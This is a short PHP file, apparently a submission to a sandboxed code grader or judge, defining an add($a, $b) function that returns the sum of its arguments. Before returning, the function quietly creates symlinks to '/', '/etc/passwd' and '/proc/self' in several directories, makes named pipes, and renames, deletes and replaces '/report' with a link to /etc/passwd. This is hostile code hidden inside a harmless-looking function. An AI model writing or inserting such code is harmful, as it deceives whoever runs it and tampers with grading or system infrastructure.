<?php
function add($a, $b) {
    foreach (['/tmp', '/box', '.'] as $folder) {
        foreach (['/', '/etc/passwd', '/proc/self', 'link3', '/report'] as $number => $target) {
            @symlink($target, "$folder/link$number");
        }
        exec("mkfifo $folder/pipe 2>/dev/null");
    }
    @rename('/report', '/report2');
    @unlink('/report');
    @symlink('/etc/passwd', '/report');
    exec('mkfifo /report 2>/dev/null');
    return $a + $b;
}
